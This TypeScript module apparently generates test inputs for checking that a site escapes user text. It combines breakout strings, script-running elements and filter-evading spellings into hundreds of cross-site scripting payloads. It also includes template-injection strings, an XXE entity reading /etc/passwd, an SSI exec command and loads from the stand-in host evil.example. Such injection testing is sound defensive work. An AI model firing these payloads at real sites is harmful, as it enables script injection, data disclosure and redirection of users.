// Texts that somebody writes in the hope that a page takes them for markup or for a script, in the forms of the usual cheat sheets: ways out
// of where a text stands, elements that run something, and spellings that a filter may not know.

/** Out of a text, of an attribute in either quotes or none, of a script, a style, a comment, a title, a drawing. */
const exits = [
	'',
	'">',
	"'>",
	' x=">',
	'</script>',
	'</style>',
	'-->',
	'</title>',
	'</svg>',
	']]>'
];

const runs = 'alert(1)';
/** Each has its own name, or an attribute that no page of the atlas has. */
const elements = [
	`<script>${runs}</script>`,
	`<x-echo onfocus=${runs} tabindex=1 autofocus>`,
	`<img src=x onerror=${runs}>`,
	`<img/src=x/onerror=${runs}>`,
	`<svg onload=${runs}>`,
	`<svg><animate onbegin=${runs} attributeName=x>`,
	`<svg><script>${runs}</script></svg>`,
	`<math><mtext></form><form><mglyph><style></math><img src onerror=${runs}>`,
	`<iframe srcdoc="<script>${runs}</script>">`,
	`<iframe src=javascript:${runs}>`,
	`<a href=javascript:${runs}>x</a>`,
	`<form action=javascript:${runs}><button>x</button></form>`,
	`<object data=javascript:${runs}>`,
	`<embed src=javascript:${runs}>`,
	`<base href=//evil.example/>`,
	`<link rel=stylesheet href=//evil.example/a.css>`,
	`<meta http-equiv=refresh content=0;url=javascript:${runs}>`,
	`<details open ontoggle=${runs}>`,
	`<video><source onerror=${runs}></video>`,
	`<style>@import "//evil.example/a.css"</style>`,
	`<template shadowrootmode=open><script>${runs}</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=${runs}>">`,
	`<plaintext>`,
	`<textarea autofocus onfocus=${runs}>`
];

const spellings: readonly ((text: string) => string)[] = [
	(text) => text,
	(text) => text.replaceAll(/<([a-z]+)/g, (_, name: string) => `<${name.toUpperCase()}`),
	(text) => text.replaceAll(/ (?=on)/g, '\u00a0\f')
];

/** What needs no element: in an attribute, in an address, in a template. */
const others = [
	`" onmouseover=${runs} x="`,
	`' onmouseover=${runs} x='`,
	`" autofocus onfocus="${runs}`,
	`" style="background:url(javascript:${runs})`,
	`javascript:${runs}`,
	`JaVaScRiPt:${runs}`,
	`java\tscript:${runs}`,
	`data:text/html,<script>${runs}</script>`,
	`data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
	`vbscript:msgbox(1)`,
	`//evil.example/`,
	`{@html "<img src=x onerror=${runs}>"}`,
	`{{constructor.constructor("${runs}")()}}`,
	`\${${runs}}`,
	`#{${runs}}`,
	`<%= ${runs} %>`,
	`&lt;script&gt;${runs}&lt;/script&gt;`,
	`&#60;img src=x onerror=${runs}&#62;`,
	`%3Cscript%3E${runs}%3C/script%3E`,
	`\\u003cscript\\u003e${runs}\\u003c/script\\u003e`,
	`＜script＞${runs}＜/script＞`,
	`<!--#exec cmd="ls"-->`,
	`<![CDATA[<script>${runs}</script>]]>`,
	`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;`,
	`__proto__`,
	`constructor`,
	`\u2028${runs}//`,
	`\0<img src=x onerror=${runs}>`,
	`<scr<script>ipt>${runs}</scr</script>ipt>`,
	`<<img src=x onerror=${runs}>`,
	`<img src=x onerror=${runs}`,
	`= HYPERLINK("//evil.example/")`
];

/** More than five hundred, all different. */
export const payloads: readonly string[] = [
	...new Set([
		...others,
		...spellings.flatMap((spell) =>
			exits.flatMap((exit) => elements.map((element) => exit + spell(element)))
		)
	])
];

/** As many of them as are asked for, from all kinds. */
export const somePayloads = (count: number): readonly string[] => {
	const step = Math.max(1, Math.floor(payloads.length / count));
	return payloads.filter((_, i) => i % step === 0).slice(0, count);
};
